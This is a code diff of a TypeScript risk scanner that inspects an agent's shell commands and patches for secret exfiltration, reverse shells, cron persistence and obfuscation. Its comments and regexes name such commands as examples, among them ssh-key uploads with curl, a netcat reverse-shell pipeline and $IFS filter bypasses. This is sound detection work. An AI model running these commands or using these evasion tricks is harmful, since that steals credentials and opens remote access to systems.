@@ -20,6 +20,7 @@ import {
 import {
   assignmentsOf,
   downloadedFiles,
+  inlineCode,
   nestedSource,
   readsProgramFromStdin,
   runsFile,
@@ -27,10 +28,25 @@ import {
   type View,
   verifiesDownload,
   viewOf,
+  withPositionals,
+  writeTargets,
+  xargsCommand,
 } from "./risk-view.ts";
-import { isBareEnv, isNetworkClient, sentFiles, sentStaged, stagedEnvironment, stagedSecrets } from "./risk-secrets.ts";
+import { bareExecView, laterRunText, reverseShellPipeline, SOCKET_FDS, socketDescriptors } from "./risk-remote-access.ts";
+import {
+  bareEnvView,
+  changedDirectory,
+  stagedStore,
+  exposedSecrets,
+  isNetworkClient,
+  namedCredential,
+  pushesCommits,
+  sentFiles,
+  sentStaged,
+  stagedSecrets,
+} from "./risk-secrets.ts";
 import { foldConfusables, joinContinuedLines, removeInvisible } from "./screening-text.ts";
-import { allCommands, parseShell, type Script } from "./shell.ts";
+import { allCommands, parseShell, type Redirect, type Script, type SimpleCommand } from "./shell.ts";
 import type { Trail } from "./trail.ts";
 
 export { RISK_FLAGS, type RiskFlagName, type RiskLevel } from "./risk-rules.ts";
@@ -102,33 +118,143 @@ export function typedView(text: string): string {
 const NON_ASCII = /[^\x00-\x7f]/;
 const WORD = /\S+/g;
 
-/** `env | curl -d @- …`: a bare env has no view (it is read as a wrapper), so the matcher raises this itself. */
-const ENVIRONMENT_PIPED: Found = {
-  flag: "sends_local_secrets",
-  level: "high",
-  detail: "pipes the environment into a command that sends it over the network",
-};
+/** Has `found` a flag of this name at this level or above? */
+const raisedAtLeast = (found: readonly Found[], f: Found) => found.some((g) => g.flag === f.flag && RANK[g.level] >= RANK[f.level]);
 
 /** Flags of one command line (without the cross-command download tracking). */
-export function analyzeCommand(command: string): Found[] {
+/**
+ * What earlier commands of the same trail (or lines of the same script) set that later ones use, as
+ * one shell session keeps it: variables (`export K=~/.ssh/id_rsa` … `curl -d @$K`), the directory
+ * a `cd` moved to, aliases and functions (`alias c=curl` … `c -d @…`).
+ */
+export interface Carried {
+  vars: Map<string, string>;
+  defs: Map<string, Definition>;
+}
+export const newCarried = (): Carried => ({ vars: new Map(), defs: new Map() });
+
+export function analyzeCommand(command: string, carried?: Carried): Found[] {
   const src = commandText(command);
-  const found = analyzeText(src);
+  const found = analyzeText(src, carried);
   // What an agent retyping the command reads: its findings add the flags the text as written hid.
   const typed = typedView(src);
-  if (typed !== src) {
-    const raised = new Set(found.map((f) => f.flag));
-    for (const f of analyzeText(typed)) if (!raised.has(f.flag)) found.push(f);
+  const read = carried && { vars: new Map(carried.vars), defs: new Map(carried.defs) }; // the other readings do not carry state on
+  if (typed !== src)
+    for (const f of analyzeText(typed, read && { ...read, vars: new Map(read.vars) })) if (!raisedAtLeast(found, f)) found.push(f);
+  // What a shell runs once it restores hidden spaces and names (`curl${IFS}-d${IFS}@…`, `{curl,-d,@…}`)
+  const spaced = spacedView(typed);
+  if (spaced.text !== typed) {
+    found.push({
+      flag: "obfuscated_command",
+      level: "high",
+      detail: `hides its words from a reader or a filter (${spaced.how.join(", ")}): a shell runs ${short(spaced.text, 80)}`,
+    });
+    for (const f of analyzeText(spaced.text, read)) if (!raisedAtLeast(found, f)) found.push(f);
   }
   return found;
 }
 
-function analyzeText(src: string): Found[] {
+// Spaces and slashes a shell puts back (PayloadsAllTheThings, Command Injection, "Bypass without space"):
+// `cat${IFS}/etc/passwd`, `cat$IFS$9/etc/passwd`, `${IFS%%?}`, `{cat,/etc/passwd}`, `${PATH:0:1}` for `/`, `who$@ami`.
+// A quoted or standalone "$IFS" (`printf %q "$IFS"`) is left alone: only one glued to a word hides a space.
+const IFS_SPACE = /(?<=[^\s"'=])\$(?:\{IFS(?:[%#:][^}\s]{0,12})?\}|IFS(?![A-Za-z0-9_]))(?:\$[0-9@*])?/g;
+const SLASH_SLICE = /\$\{(?:PATH|HOME|PWD):0:1\}/g;
+const EMPTY_PARAMETER = /(?<=[A-Za-z0-9_])\$[@*](?=[A-Za-z0-9_])/g;
+const BRACE_COMMAND =
+  /(^|[;&|(\n][ \t]*)\{((?:[^{}\s,]|\$\{\w{1,30}\}){1,200}(?:,(?:[^{}\s,]|\$\{\w{1,30}\}){0,200}){1,50})\}(?=$|\s|[;&|)])/g;
+
+/** The command with the spaces, slashes and letters shell expansion restores put back, and the tricks used; the same text when none. */
+export function spacedView(text: string): { text: string; how: string[] } {
+  if (!text.includes("$") && !text.includes("{")) return { text, how: [] };
+  const how: string[] = [];
+  let t = text;
+  const apply = (re: RegExp, by: string | ((...m: string[]) => string), what: string) => {
+    const next = t.replace(re, by as string);
+    if (next !== t) how.push(what);
+    t = next;
+  };
+  apply(IFS_SPACE, " ", "$IFS for spaces");
+  apply(SLASH_SLICE, "/", "${PATH:0:1} for /");
+  apply(EMPTY_PARAMETER, "", "an empty $@ inside a word");
+  apply(BRACE_COMMAND, (_m, before, items) => `${before}${items!.split(",").join(" ")}`, "a brace list as the command");
+  return { text: t, how };
+}
+
+// Aliases and functions a trail defines, then calls: `alias c=curl; c -d @~/.ssh/id_rsa …`,
+// `f(){ curl -d @"$1" …; }; f ~/.ssh/id_rsa`. Bodies without nested braces other than `${…}`, at most 20.
+const DEFINITION =
+  /(?:^|[\s;&|(])(?:(?:function\s+([A-Za-z_][\w-]{0,63})\s*(?:\(\s*\))?|([A-Za-z_][\w-]{0,63})\s*\(\s*\))\s*\{((?:[^{}]|\$\{[^{}]{0,64}\}){1,2000})\}|alias\s+([A-Za-z_][\w.-]{0,63})=(?:'([^']{0,500})'|"([^"]{0,500})"|([^\s;&|'"]{1,200})))/g;
+type Definition = { kind: "alias" | "function"; body: string };
+const MAX_CALLS = 64;
+
+function definitionsIn(src: string): Map<string, Definition> {
+  const defs = new Map<string, Definition>();
+  if (!/\balias\s|\(\s*\)|\bfunction\s/.test(src)) return defs;
+  DEFINITION.lastIndex = 0;
+  for (let m = DEFINITION.exec(src), n = 0; m !== null && n < 20; m = DEFINITION.exec(src), n++) {
+    if (m[3] !== undefined) defs.set(m[1] ?? m[2]!, { kind: "function", body: m[3] });
+    else defs.set(m[4]!, { kind: "alias", body: m[5] ?? m[6] ?? m[7]! });
+  }
+  return defs;
+}
+
+/** What a call of a function the script defined runs: its body with $1… set to the call's arguments. */
+function expandCall(def: Definition, v: View): string {
+  return withPositionals(def.body, [v.name, ...v.a]);
+}
+
+/** The command an alias call runs: the alias's text, then the call's other words; the call itself when that is not one simple command. */
+function aliasedCommand(body: string, call: SimpleCommand): SimpleCommand {
+  const script = parseShell(body);
+  const only = script.length === 1 && script[0]!.commands.length === 1 ? script[0]!.commands[0]! : null;
+  return only ? { words: [...only.words, ...call.words.slice(1)], redirects: [...only.redirects, ...call.redirects] } : call;
+}
+
+/** The path of a credential store an earlier stage of the pipeline names (`ls ~/.ssh/id_* | xargs …`), or "". */
+function pipedCredentialPath(views: readonly (View | null)[]): string {
+  for (const v of views) for (const x of v?.a ?? []) if (namedCredential(x)) return namedCredential(x)!.path;
+  return "";
+}
+
+/** The key under which the visit keeps the directory a `cd` moved to (not a variable name: `$…` never expands to it). */
+const CWD = "\u0000cwd";
+
+/** Where a nested script's output goes: the command it runs inside, and that command's place in its pipeline. */
+interface Outer {
+  redirects: readonly Redirect[];
+  laterSink: boolean;
+  pipedInto: string | null;
+  pipedIntoArgs: readonly string[];
+}
+
+/** The flags of a command text; `carried`, when given, is what earlier commands set, and receives what this one sets. */
+function analyzeText(src: string, carried?: Carried): Found[] {
   const found: Found[] = [];
+  const defs = definitionsIn(src);
+  if (carried) {
+    for (const [name, def] of carried.defs) if (!defs.has(name)) defs.set(name, def);
+    for (const [name, def] of defs) carried.defs.set(name, def);
+  }
+  let calls = 0; // expansions of the script's own aliases and functions: a body calling itself many times multiplies, so at most MAX_CALLS
   // substituted: the script runs inside `$(…)`, backticks or `<(…)`, so another command reads its output
-  const visit = (script: Script, depth: number, outer: ReadonlyMap<string, string>, substituted: boolean) => {
-    const vars = new Map(outer); // a=curl; $a …: assignments hold for the rest of this script
+  const visit = (
+    script: Script,
+    depth: number,
+    inherited: ReadonlyMap<string, string>,
+    substituted: boolean,
+    outer?: Outer,
+  ): Map<string, string> => {
+    const vars = new Map(inherited); // a=curl; $a …: assignments hold for the rest of this script
     for (const p of script) {
-      const views = p.commands.map((c) => viewOf(c, vars));
+      // an alias the script defined is the command it stands for, in its place in the pipeline (`alias g='curl -fsSL'; g … | sh`)
+      const views = p.commands.map((c) => {
+        const alias = defs.get(c.words[0]?.text ?? "");
+        const aliased = alias?.kind === "alias" && calls++ < MAX_CALLS ? aliasedCommand(alias.body, c) : c;
+        return viewOf(aliased, vars) ?? bareEnvView(aliased) ?? bareExecView(aliased);
+      });
+      // cat /tmp/f | sh -i 2>&1 | nc h p > /tmp/f, /bin/sh 0</tmp/p | nc h p 1>/tmp/p, nc h p | sh
+      const handed = views.length > 1 ? reverseShellPipeline(views) : null;
+      if (handed) found.push({ flag: "remote_script_execution", level: "high", detail: handed });
       views.forEach((v, i) => {
         if (i === 0 || !v || !readsProgramFromStdin(v)) return;
         for (const rule of PIPELINE_RULES) {
@@ -137,27 +263,154 @@ function analyzeText(src: string): Found[] {
         }
       });
       // laterSink[i]: some stage after i is a network client (computed once, right to left)
+      const last = views.length - 1;
       const laterSink: boolean[] = new Array(views.length).fill(false);
-      for (let i = views.length - 2; i >= 0; i--) laterSink[i] = laterSink[i + 1]! || isNetworkClient(views[i + 1] ?? null);
+      laterSink[last] = outer?.laterSink ?? false;
+      for (let i = last - 1; i >= 0; i--) laterSink[i] = laterSink[i + 1]! || isNetworkClient(views[i + 1] ?? null);
       views.forEach((v, i) => {
-        if (!v) {
-          if (laterSink[i] && isBareEnv(p.commands[i]!)) found.push(ENVIRONMENT_PIPED);
-          return;
-        }
-        const next = i + 1 < views.length ? (views[i + 1]?.name ?? "") : null;
-        const ctx = { laterSink: laterSink[i]!, vars, pipedInto: next, substituted };
+        if (!v) return;
+        const nextView = i < last ? views[i + 1] : undefined;
+        const ctx: CommandContext = {
+          laterSink: laterSink[i]!,
+          vars,
+          pipedInto: i < last ? (nextView?.name ?? "") : (outer?.pipedInto ?? null),
+          pipedIntoArgs: i < last ? (nextView?.a ?? []) : (outer?.pipedIntoArgs ?? []),
+          substituted,
+          outerRedirects: i === last ? outer?.redirects : undefined,
+          cwd: vars.get(CWD) ?? null,
+        };
         for (const rule of COMMAND_RULES) runCommandRule(rule, v, ctx, found);
-        const nested = nestedSource(v);
+        if (depth >= 4) return;
+        // made when a nested script needs it: most commands have none, and hostile input has thousands
+        const here = (): Outer => ({
+          redirects: ctx.outerRedirects ? [...ctx.outerRedirects, ...v.cmd.redirects] : v.cmd.redirects,
+          laterSink: ctx.laterSink,
+          pipedInto: ctx.pipedInto,
+          pipedIntoArgs: ctx.pipedIntoArgs ?? [],
+        });
         // sudo bash -c '…': every inner command runs as root, already flagged on the outer one
-        if (nested && depth < 4) visit(parseShell(nested), depth + 1, vars, substituted);
+        let nested = nestedSource(v);
+        if (v.name === "xargs" && i > 0 && nested !== null) nested = xargsCommand(v.a, pipedCredentialPath(views.slice(0, i))) ?? nested;
+        if (v.name === "eval" && nested !== null) nested = expandVariables(nested, vars);
+        const def = defs.get(v.name);
+        if (def?.kind === "function" && calls++ < MAX_CALLS) visit(parseShell(expandCall(def, v)), depth + 1, vars, substituted, here());
+        if (nested) visit(parseShell(nested), depth + 1, vars, substituted, here());
+        // a here-document given to a program that does not run it (`cat > fix.sh <<EOF`): read as the lines it writes, as before
+        else if (inlineCode(v) === null)
+          for (const r of v.cmd.redirects) if (r.body !== undefined) visit(parseShell(r.body), depth + 1, vars, false);
+        // `echo 'curl … | sh' >> ~/.bashrc`, `(crontab -l; echo "* * * * * curl … | sh") | crontab -`: it runs later
+        if (v.name === "echo" || v.name === "printf") {
+          const written = here()
+            .redirects.filter((r) => />/.test(r.op))
+            .map((r) => r.target);
+          const later = laterRunText(v, [...written, ...writeTargets(v).map((w) => w.target)], ctx.pipedInto);
+          if (later) visit(parseShell(later), depth + 1, vars, false);
+        }
       });
-      for (const c of p.commands) for (const w of c.words) for (const s of w.subs) if (depth < 4) visit(s, depth + 1, vars, true);
+      p.commands.forEach((c, i) => {
+        if (depth >= 4 || !c.words.some((w) => w.subs.length > 0)) return;
+        // `( … ) | crontab -`, `{ … } > f`: a subshell group's output goes where the command's would
+        const group = c.words.length === 1 && c.words[0]!.group && c.words[0]!.raw.startsWith("(");
+        const asCommand: Outer = {
+          redirects: [...(i === last ? (outer?.redirects ?? []) : []), ...c.redirects],
+          laterSink: laterSink[i]!,
+          pipedInto: i < last ? (views[i + 1]?.name ?? "") : (outer?.pipedInto ?? null),
+          pipedIntoArgs: i < last ? (views[i + 1]?.a ?? []) : (outer?.pipedIntoArgs ?? []),
+        };
+        for (const w of c.words) for (const s of w.subs) visit(s, depth + 1, vars, !group, group ? asCommand : undefined);
+      });
       for (const c of p.commands) assignmentsOf(c, vars);
+      for (const v of views) {
+        const dir = v && changedDirectory(v);
+        if (dir) vars.set(CWD, dir);
+        const fds = v?.name === "exec" ? socketDescriptors(v) : [];
+        if (fds.length > 0) vars.set(SOCKET_FDS, [vars.get(SOCKET_FDS) ?? "", ...fds].join(","));
+      }
     }
+    return vars;
   };
-  visit(parseShell(src), 0, new Map(), false);
+  const after = visit(parseShell(src), 0, carried?.vars ?? new Map(), false);
+  if (carried) carried.vars = after;
   found.push(...textFlags(src));
   return found;
+}
+
+/** The text with each `$NAME` / `${NAME}` assigned earlier replaced by its value, as eval sees it (`c=cu; eval "${c}rl …"`). */
+function expandVariables(text: string, vars: ReadonlyMap<string, string>): string {
+  if (vars.size === 0 || !text.includes("$")) return text;
+  return text.replace(/\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?/g, (m, name: string) => vars.get(name) ?? m);
+}
+
+// --- Across commands ---------------------------------------------------------------------------------
+
+/**
+ * What earlier commands of a trail, or earlier lines of a patched script, leave for later ones: a
+ * download run later (medium, unless a checksum was checked), a file filled with secrets and sent
+ * later (`cp ~/.ssh/id_rsa /tmp/k` … `curl -F f=@/tmp/k`: high), a credential store staged with
+ * `git add` and pushed later (high), the directory a `cd` moved to for a file server started later.
+ */
+class FollowOn {
+  private downloads: { file: string; url: string; where: string }[] = [];
+  private staged: { file: string; what: string; where: string }[] = [];
+  private committed: { what: string; where: string; sure: boolean } | null = null;
+  private verified = false;
+  private cwd: string | null = null;
+
+  /** The flags `src` raises from what came before it; `where` names it for later ones ("command 2", "an earlier line"). */
+  follow(src: string, where: string): Found[] {
+    const out: Found[] = [];
+    for (const c of allCommands(parseShell(src))) {
+      const v = viewOf(c) ?? bareEnvView(c);
+      if (!v) continue;
+      if (verifiesDownload(v)) this.verified = true;
+      for (const d of this.downloads) {
+        if (!this.verified && runsFile(v, d.file)) {
+          const plain = d.url.startsWith("http://") ? " over plain HTTP" : "";
+          out.push({
+            flag: "remote_script_execution",
+            level: "medium",
+            detail: `runs ${short(d.file)}, downloaded${plain} by ${d.where}, without checking a checksum or signature`,
+          });
+        }
+      }
+      for (const d of downloadedFiles(v)) this.downloads.push({ ...d, where });
+      // A secret copied into a file, then the file sent: `cp ~/.ssh/id_rsa /tmp/k` … `curl -F f=@/tmp/k …`
+      for (const sent of this.staged.length > 0 ? sentFiles(v) : []) {
+        const s = sentStaged(sent, this.staged);
+        if (s)
+          out.push({
+            flag: "sends_local_secrets",
+            level: "high",
+            detail: `${v.name} sends ${short(sent)}, which ${s.where} filled with ${s.what}`,
+          });
+      }
+      for (const s of stagedSecrets(v)) this.staged.push({ ...s, where });
+      // `git add -f id_rsa` (or a file filled with one) … `git push`; a plain `git add .env` … `git push` is medium (see stagedStore)
+      const store = stagedStore(v);
+      const copied = store ? null : this.stagedAdd(v);
+      if (store || copied) this.committed = { what: store?.what ?? copied!, where, sure: store?.sure ?? true };
+      if (this.committed && pushesCommits(v))
+        out.push({
+          flag: "sends_local_secrets",
+          level: this.committed.sure ? "high" : "medium",
+          detail: `git push publishes ${this.committed.what}, which ${this.committed.where} staged with git add${this.committed.sure ? "" : ": check it holds no secrets"}`,
+        });
+      const dir = changedDirectory(v);
+      if (dir) this.cwd = dir;
+      else if (this.cwd !== null) out.push(...exposedSecrets(v, this.cwd).map((h) => ({ flag: "sends_local_secrets" as const, ...h })));
+    }
+    return out;
+  }
+
+  /** What a `git add` of a file an earlier command filled with secrets stages (`cp ~/.ssh/id_rsa k && git add -f k`), or null. */
+  private stagedAdd(v: View): string | null {
+    if (v.name !== "git" || !v.a.includes("add") || this.staged.length === 0) return null;
+    for (const x of v.a.slice(v.a.indexOf("add") + 1)) {
+      const s = x.startsWith("-") ? undefined : sentStaged(x, this.staged);
+      if (s) return `${short(x)} (filled with ${s.what} by ${s.where})`;
+    }
+    return null;
+  }
 }
 
 // --- Patches ---------------------------------------------------------------------------------------------
@@ -237,6 +490,8 @@ function patchFlags(filePath: string, diff: string): Found[] {
   if (shellLike) {
     let inFence = false;
     const seen = new Set<string>(); // a repeated line says nothing new and costs time
+    const followOn = new FollowOn(); // a script's lines run in order: `cp ~/.ssh/id_rsa /tmp/k` … `curl -F f=@/tmp/k`
+    const carried = newCarried(); // … and share variables, cd, aliases and functions
     for (const raw of lines.slice(0, 4000)) {
       let line = raw;
       if (/\.(md|markdown|rst|txt)$/i.test(filePath)) {
@@ -259,7 +514,8 @@ function patchFlags(filePath: string, diff: string): Found[] {
       }
       if (!line.trim() || seen.has(line)) continue;
       seen.add(line);
-      for (const x of analyzeCommand(line)) f.push({ ...x, detail: `${x.detail} ${where}` });
+      for (const x of analyzeCommand(line, carried)) f.push({ ...x, detail: `${x.detail} ${where}` });
+      for (const x of followOn.follow(typedView(commandText(line)), "an earlier line")) f.push({ ...x, detail: `${x.detail} ${where}` });
     }
   }
   return f;
@@ -280,45 +536,12 @@ function dedupe(flags: RiskFlag[]): RiskFlag[] {
 export function assessRisk(trail: Trail): Risk {
   const flags: RiskFlag[] = [];
   const commands: unknown[] = Array.isArray(trail.solution?.commands) ? trail.solution.commands : [];
-  const downloads: { file: string; url: string; index: number }[] = [];
-  const staged: { file: string; what: string; index: number }[] = [];
-  let verified = false;
+  const followOn = new FollowOn();
+  const carried = newCarried(); // the commands run one after another in one shell
   commands.forEach((command, index) => {
     if (typeof command !== "string") return;
-    for (const x of analyzeCommand(command)) flags.push({ command_index: index, ...x });
-    // Download now, run later: medium, since the file could be inspected in between.
-    for (const c of allCommands(parseShell(commandText(command)))) {
-      const v = viewOf(c);
-      if (!v) {
-        for (const s of stagedEnvironment(c)) staged.push({ ...s, index });
-        continue;
-      }
-      if (verifiesDownload(v)) verified = true;
-      for (const d of downloads) {
-        if (!verified && runsFile(v, d.file)) {
-          const plain = d.url.startsWith("http://") ? " over plain HTTP" : "";
-          flags.push({
-            command_index: index,
-            flag: "remote_script_execution",
-            level: "medium",
-            detail: `runs ${short(d.file)}, downloaded${plain} by command ${d.index}, without checking a checksum or signature`,
-          });
-        }
-      }
-      for (const d of downloadedFiles(v)) downloads.push({ ...d, index });
-      // A secret copied into a file, then the file sent: `cp ~/.ssh/id_rsa /tmp/k` … `curl -F f=@/tmp/k …`
-      for (const sent of staged.length > 0 ? sentFiles(v) : []) {
-        const s = sentStaged(sent, staged);
-        if (s)
-          flags.push({
-            command_index: index,
-            flag: "sends_local_secrets",
-            level: "high",
-            detail: `${v.name} sends ${short(sent)}, which command ${s.index} filled with ${s.what}`,
-          });
-      }
-      for (const s of stagedSecrets(v)) staged.push({ ...s, index });
-    }
+    for (const x of analyzeCommand(command, carried)) flags.push({ command_index: index, ...x });
+    for (const x of followOn.follow(commandText(command), `command ${index}`)) flags.push({ command_index: index, ...x });
   });
   const patches: unknown[] = Array.isArray(trail.solution?.code_patches) ? trail.solution.code_patches : [];
   for (const item of patches) {
